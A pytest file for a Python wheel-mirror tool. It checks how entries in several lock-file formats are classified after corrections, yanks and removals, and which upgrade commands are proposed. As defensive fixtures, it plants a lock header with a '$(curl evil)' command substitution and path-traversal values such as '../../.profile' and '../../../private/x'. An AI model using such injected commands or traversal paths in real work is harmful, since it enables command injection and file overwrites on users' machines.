"""What became of locked files in a mirror, what still installs, and which commands move the project over."""

from collections.abc import Sequence
from pathlib import Path

import pytest

from counting import count_calls
from demos import GPU, demo_wheel
from stores import MemoryStore
from wheelfix.mirror.affected import AffectedLock, Fate, affected_locks
from wheelfix.mirror.pages import ListedFile
from wheelfix.mirror.publish import fix_into_mirror
from wheelfix.mirror.storage import open_store
from wheelfix.mirror.storage.base import Store, Stored
from wheelfix.mirror.upload import add_wheels
from wheelfix.mirror.yank import list_pages, remove_files, yank_files
from wheelfix.options import Naming, Publishing

WHEEL = "demo-1.0-py3-none-any.whl"
HOME = "https://wheels.example.org"
KINDS = ("uv.lock", "pylock.toml", "poetry.lock", "pdm.lock", "requirements.txt")
WITH_URLS = ("uv.lock", "pylock.toml")


FORMS = {
    "uv.lock": (
        'version = 1\n[[package]]\nname = "demo"\nversion = "1.0"\nsource = { registry = "INDEX" }\nwheels = [FILES]\n',
        '{{ url = "{url}", hash = "sha256:{sha256}" }}',
    ),
    "pylock.toml": (
        'lock-version = "1.0"\ncreated-by = "pip"\n'
        '[[packages]]\nname = "demo"\nversion = "1.0"\nindex = "INDEX"\nwheels = [FILES]\n',
        '{{ name = "{name}", url = "{url}", hashes = {{ sha256 = "{sha256}" }} }}',
    ),
    "poetry.lock": (
        '[[package]]\nname = "demo"\nversion = "1.0"\nfiles = [FILES]\n'
        '[package.source]\ntype = "legacy"\nurl = "INDEX"\nreference = "ours"\n[metadata]\nlock-version = "2.1"\n',
        '{{ file = "{name}", hash = "sha256:{sha256}" }}',
    ),
    "pdm.lock": (
        '[metadata]\nlock_version = "4.5.0"\n[[package]]\nname = "demo"\nversion = "1.0"\nfiles = [FILES]\n',
        '{{ file = "{name}", hash = "sha256:{sha256}" }}',
    ),
    "requirements.txt": ("demo==1.0 FILES\n", "--hash=sha256:{sha256}"),
}
"""What each client writes, and of each file."""


@pytest.fixture(params=["directory", "bucket"])
def store(request: pytest.FixtureRequest, tmp_path: Path) -> Store:
    """A mirror with the original of demo 1.0, and with demo 2.0."""
    store = (
        open_store(tmp_path / "mirror", create=True) if request.param == "directory" else MemoryStore(tmp_path / "scratch")
    )
    assert add_wheels(store, [original(tmp_path), demo_wheel(tmp_path / "in", "2.0")]).ok
    return store


def original(folder: Path) -> Path:
    return demo_wheel(folder / "in", "1.0", GPU)


def listed(store: Store, name: str = WHEEL) -> ListedFile:
    found = next(page for page in list_pages(store)).find(name)
    assert found is not None
    return found


def lock(folder: Path, kind: str, *files: ListedFile, index: str = f"{HOME}/simple", host: str = HOME) -> Path:
    """Write what a client locks of these files, which are of one release."""
    form, each = FORMS[kind]
    rows = [
        each.format(name=file.filename, url=file.url.replace("../../", f"{host}/"), sha256=file.sha256) for file in files
    ]
    path = folder / kind
    path.write_text(form.replace("INDEX", index).replace("FILES", (" " if kind == "requirements.txt" else ", ").join(rows)))
    return path


def examined(store: Store, path: Path) -> AffectedLock:
    (found,) = affected_locks(store, path).locks
    assert found.problem is None
    return found


def fates(found: AffectedLock) -> list[tuple[Fate, bool]]:
    return [(each.fate, each.installs) for each in found.entries]


def commands(found: AffectedLock) -> list[str]:
    return [str(each) for each in found.steps]


@pytest.mark.parametrize("kind", KINDS)
def test_what_is_served_as_it_was_locked_is_not_affected(kind: str, store: Store, tmp_path: Path) -> None:
    found = examined(store, lock(tmp_path, kind, listed(store)))
    assert (found.entries, found.steps, found.served, found.others) == ((), (), 1, 0)


@pytest.mark.parametrize("kind", KINDS)
def test_a_correction_in_place(kind: str, store: Store, tmp_path: Path) -> None:
    path = lock(tmp_path, kind, listed(store))
    assert fix_into_mirror(store, original(tmp_path), publishing=Publishing(replace=True))[1].ok
    found = examined(store, path)
    assert fates(found) == [(Fate.REPLACED, kind in WITH_URLS)]
    (file,) = found.entries[0].files
    assert (file.filename, file.replacement, found.entries[0].to) == (WHEEL, WHEEL, "1.0")
    assert file.changes == (f"drop Requires-Dist: {GPU}",)


@pytest.mark.parametrize("kind", KINDS)
def test_a_correction_under_a_build_tag(kind: str, store: Store, tmp_path: Path) -> None:
    before = listed(store)
    path = lock(tmp_path, kind, before)
    publishing = Publishing(yank_original="see the correction")
    assert fix_into_mirror(store, original(tmp_path), naming=Naming(build_tag="1fix"), publishing=publishing)[1].ok
    found = examined(store, path)
    assert fates(found) == [(Fate.CORRECTED, True)]
    assert found.entries[0].files[0].replacement == "demo-1.0-1fix-py3-none-any.whl"
    both = lock(tmp_path, kind, before, listed(store, "demo-1.0-1fix-py3-none-any.whl"))
    assert examined(store, both).entries == ()


@pytest.mark.parametrize("kind", KINDS)
def test_a_correction_that_is_superseded(kind: str, store: Store, tmp_path: Path) -> None:
    publishing = Publishing(yank_original="see the correction")
    for tag in ("1fix", "2fix"):
        assert fix_into_mirror(store, original(tmp_path), naming=Naming(build_tag=tag), publishing=publishing)[1].ok
    path = lock(tmp_path, kind, listed(store, "demo-1.0-1fix-py3-none-any.whl"))
    assert fates(examined(store, path)) == []
    yank_files(store, "demo-1.0-1fix-py3-none-any.whl", "see the next one")
    assert fates(examined(store, path)) == [(Fate.CORRECTED, True)]


@pytest.mark.parametrize("kind", KINDS)
def test_a_correction_of_what_another_index_has(kind: str, store: Store, tmp_path: Path) -> None:
    """The mirror never had the original: a lock of it was made against that index."""
    before = listed(store)
    remove_files(store, "demo==1.0")
    assert fix_into_mirror(store, original(tmp_path))[1].ok
    found = examined(
        store, lock(tmp_path, kind, before, index="https://pypi.org/simple", host="https://other.example.org/x")
    )
    (entry,) = found.entries
    assert entry.fate is Fate.REPLACED


def test_a_lock_with_urls_of_another_host_installs_from_there(store: Store, tmp_path: Path) -> None:
    before = listed(store)
    remove_files(store, "demo==1.0")
    assert fix_into_mirror(store, original(tmp_path))[1].ok
    elsewhere = ListedFile(filename=WHEEL, url=f"../../packages/{WHEEL}", sha256=before.sha256, size=1, upload_time="")
    (entry,) = examined(store, lock(tmp_path, "uv.lock", elsewhere)).entries
    assert (entry.files[0].elsewhere, entry.installs) == ("wheels.example.org", True)


@pytest.mark.parametrize("kind", KINDS)
def test_yanked(kind: str, store: Store, tmp_path: Path) -> None:
    path = lock(tmp_path, kind, listed(store))
    yank_files(store, "demo==1.0", "broken")
    found = examined(store, path)
    assert fates(found) == [(Fate.YANKED, True)]
    assert found.entries[0].to is None


@pytest.mark.parametrize("kind", KINDS)
def test_removed(kind: str, store: Store, tmp_path: Path) -> None:
    """A bucket keeps the bytes of a removed file until it is pruned, and a URL of them goes on working."""
    path = lock(tmp_path, kind, listed(store))
    remove_files(store, "demo==1.0")
    found = examined(store, path)
    if store.is_shared and kind in WITH_URLS:
        assert fates(found) == [(Fate.REMOVED, True)]
    elif kind == "poetry.lock":  # it names an index, of which nothing says that it is this mirror
        assert (found.entries, found.others) == ((), 1)
    else:
        assert fates(found) == [(Fate.MISSING, False)]


@pytest.mark.parametrize("kind", KINDS)
def test_a_removed_project(kind: str, store: Store, tmp_path: Path) -> None:
    """Only a lock with URLs says that the project was of this mirror, where nothing else in it is."""
    path = lock(tmp_path, kind, listed(store))
    remove_files(store, "demo")
    found = examined(store, path)
    assert len(found.entries) == (kind in WITH_URLS)
    assert found.others == 1 - len(found.entries)


def test_other_indexes_are_none_of_our_business(store: Store, tmp_path: Path) -> None:
    other = ListedFile(filename="other-1.0-py3-none-any.whl", url="../../x", sha256="a" * 64, size=1, upload_time="")
    path = lock(tmp_path, "uv.lock", other, index="https://pypi.org/simple", host="https://files.example.org")
    path.write_text(path.read_text().replace('"demo"', '"other"'))
    found = examined(store, path)
    assert (found.entries, found.served, found.others) == ((), 0, 1)


def test_wheels_of_platforms_that_the_mirror_never_had_do_not_count(store: Store, tmp_path: Path) -> None:
    windows = ListedFile(filename="demo-1.0-cp311-cp311-win_amd64.whl", url="x", sha256="a" * 64, size=1, upload_time="")
    for kind in ("poetry.lock", "pdm.lock", "requirements.txt"):
        assert examined(store, lock(tmp_path, kind, listed(store), windows)).entries == ()


def test_without_hashes_the_mirror_decides(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "frozen.txt"
    path.write_text("demo==1.0\n")
    assert examined(store, path).served == 1
    yank_files(store, "demo==1.0")
    assert fates(examined(store, path)) == [(Fate.YANKED, True)]
    remove_files(store, "demo==1.0")
    assert fates(examined(store, path)) == [(Fate.MISSING, False)]


UV_HEADER = "# This file was autogenerated by uv via the following command:\n#    "
EXPECTED: dict[str, tuple[str, str, Sequence[str]]] = {
    "uv": ("uv.lock", "", [
        "uv cache clean demo", "uv lock --upgrade-package demo==1.0", "uv sync --reinstall-package demo",
    ]),
    "uv pip compile": ("requirements.txt", UV_HEADER + "uv pip compile requirements.in --generate-hashes\n", [
        "uv cache clean demo",
        "uv pip compile requirements.in --generate-hashes --output-file requirements.txt --upgrade-package demo==1.0",
        "uv pip sync --reinstall-package demo requirements.txt",
    ]),
    "uv export": ("pylock.toml", UV_HEADER + "uv export -o pylock.toml\n", [
        "uv cache clean demo", "uv lock --upgrade-package demo==1.0", "uv export -o pylock.toml",
        "uv pip sync --reinstall-package demo pylock.toml",
    ]),
    "poetry": ("poetry.lock", "", [
        "poetry cache clear ours --all --no-interaction", "poetry update --lock demo",
        "poetry run python -m pip uninstall -y demo", "poetry sync",
    ]),
    "pdm": ("pdm.lock", "", ["pdm cache clear", "pdm update --no-sync demo", "pdm sync --clean --reinstall"]),
    "pip-compile": ("requirements.txt", "# by the following command:\n#\n#    pip-compile -o requirements.txt x.in\n", [
        "pip-compile -o requirements.txt x.in --rebuild --upgrade-package demo==1.0",
        "python -m pip uninstall -y demo", "python -m pip install -r requirements.txt",
    ]),
    "elsewhere": ("requirements.txt", UV_HEADER + "uv pip compile requirements.in -o ../../.profile\n", [
        "make requirements.txt again with the command that made it",
        "python -m pip uninstall -y demo", "python -m pip install -r requirements.txt",
    ]),
    "hostile": ("requirements.txt", UV_HEADER + "uv pip compile $(curl evil) requirements.in\n", [
        "make requirements.txt again with the command that made it",
        "python -m pip uninstall -y demo", "python -m pip install -r requirements.txt",
    ]),
}  # fmt: skip


@pytest.mark.parametrize("client", EXPECTED)
def test_commands(client: str, tmp_path: Path) -> None:
    store = MemoryStore(tmp_path / "scratch")
    assert add_wheels(store, original(tmp_path)).ok
    kind, header, expected = EXPECTED[client]
    path = lock(tmp_path, kind, listed(store))
    path.write_text(header + path.read_text())
    assert fix_into_mirror(store, original(tmp_path), publishing=Publishing(replace=True))[1].ok
    assert commands(examined(store, path)) == expected


def test_a_command_that_was_run_in_a_directory_above(tmp_path: Path) -> None:
    store = MemoryStore(tmp_path / "scratch")
    assert add_wheels(store, original(tmp_path)).ok
    (tmp_path / "deps").mkdir()
    path = lock(tmp_path / "deps", "requirements.txt", listed(store))
    path.write_text(UV_HEADER + "uv pip compile x.in --output-file=deps/requirements.txt\n" + path.read_text())
    assert fix_into_mirror(store, original(tmp_path), publishing=Publishing(replace=True))[1].ok
    assert commands(examined(store, path))[1:] == [
        "uv pip compile x.in --output-file=deps/requirements.txt --upgrade-package demo==1.0",
        "uv pip sync --reinstall-package demo deps/requirements.txt",
    ]


def test_two_versions_of_a_project_move_at_once(tmp_path: Path) -> None:
    store, wheels = MemoryStore(tmp_path / "scratch"), [original(tmp_path), demo_wheel(tmp_path / "in", "2.0", GPU)]
    assert add_wheels(store, wheels).ok
    text = lock(tmp_path, "uv.lock", listed(store)).read_text()
    other = lock(tmp_path, "uv.lock", listed(store, "demo-2.0-py3-none-any.whl")).read_text().replace('"1.0"', '"2.0"')
    (tmp_path / "uv.lock").write_text(text + other.removeprefix("version = 1\n"))
    assert fix_into_mirror(store, wheels, publishing=Publishing(replace=True))[1].ok
    found = examined(store, tmp_path / "uv.lock")
    assert [each.version for each in found.entries] == ["1.0", "2.0"]
    assert commands(found) == ["uv cache clean demo", "uv lock --upgrade-package demo", "uv sync --reinstall-package demo"]


def test_pip_uninstalls_what_the_lock_has_for_dropped_requirements_alone(tmp_path: Path) -> None:
    store = MemoryStore(tmp_path / "scratch")
    assert add_wheels(store, original(tmp_path)).ok
    path = lock(tmp_path, "requirements.txt", listed(store))
    path.write_text(path.read_text() + "nvidia_cudnn_cu12==9.5.1.17\n")
    assert fix_into_mirror(store, original(tmp_path), publishing=Publishing(replace=True))[1].ok
    assert "python -m pip uninstall -y demo nvidia-cudnn-cu12" in commands(examined(store, path))


def test_a_new_version_is_named(tmp_path: Path) -> None:
    store = MemoryStore(tmp_path / "scratch")
    wheel = demo_wheel(tmp_path / "in", "1.0+cpu", GPU)
    assert add_wheels(store, wheel).ok
    path = lock(tmp_path, "uv.lock", listed(store, wheel.name))
    path.write_text(path.read_text().replace('"1.0"', '"1.0+cpu"'))
    assert fix_into_mirror(store, wheel, naming=Naming(drop_local=True))[1].ok
    (entry,) = examined(store, path).entries
    assert (entry.fate, entry.version, entry.to) == (Fate.CORRECTED, "1.0+cpu", "1.0")
    assert "uv lock --upgrade-package demo==1.0" in commands(examined(store, path))


def test_a_lock_that_cannot_be_read_stops_no_other(store: Store, tmp_path: Path) -> None:
    (tmp_path / "bad.lock").write_text("[[[")
    report = affected_locks(store, [tmp_path / "bad.lock", lock(tmp_path, "uv.lock", listed(store))])
    assert [each.problem and each.problem.code for each in report.locks] == ["lock-unreadable", None]
    assert (report.complete, report.affected) == (False, ())


def test_each_page_is_read_once_and_only_where_a_lock_names_the_project(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store, read = MemoryStore(tmp_path / "scratch"), list[str]()
    assert add_wheels(store, original(tmp_path)).ok
    paths = [lock(tmp_path, kind, listed(store)) for kind in KINDS]
    inner = MemoryStore.read

    def counted(self: MemoryStore, key: str) -> Stored | None:
        read.append(key)
        return inner(self, key)

    monkeypatch.setattr(MemoryStore, "read", counted)
    affected_locks(store, paths)
    assert [each for each in read if each.endswith("index.json")] == ["public/simple/demo/index.json"]


def test_a_bucket_is_asked_only_for_what_a_url_of_the_mirror_names(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A lock names wheels of all platforms: a mirror of one platform would be asked for thousands that it never had."""
    store, asked = MemoryStore(tmp_path / "scratch"), list[str]()
    assert add_wheels(store, original(tmp_path)).ok
    others = [
        ListedFile(
            filename=f"demo-1.0-cp3{each}-cp3{each}-win_amd64.whl", url="x", sha256=f"{each:064x}", size=1, upload_time=""
        )
        for each in range(9)
    ]
    paths = [lock(tmp_path, kind, listed(store), *others) for kind in KINDS]
    inner = MemoryStore.head
    monkeypatch.setattr(MemoryStore, "head", lambda self, key: (asked.append(key), inner(self, key))[1])  # type: ignore[func-returns-value]
    assert affected_locks(store, paths).affected == ()
    assert asked == []


def test_the_work_grows_with_the_lock(tmp_path: Path) -> None:
    store = MemoryStore(tmp_path / "scratch")
    assert add_wheels(store, original(tmp_path)).ok

    def work(count: int) -> int:
        path = tmp_path / f"{count}.txt"
        path.write_text("".join(f"demo=={number} --hash=sha256:{number:064x}\n" for number in range(2, count)))
        return count_calls(lambda: affected_locks(store, path))

    assert work(2000) < 12 * work(200)


def test_file_names_of_a_lock_are_no_keys(store: Store, tmp_path: Path) -> None:
    evil = ListedFile(
        filename="../../../private/x", url="../../files/demo/" + "a" * 16 + "/..", sha256="a" * 64, size=1, upload_time=""
    )
    found = examined(store, lock(tmp_path, "uv.lock", evil))
    assert fates(found) == [(Fate.MISSING, False)]
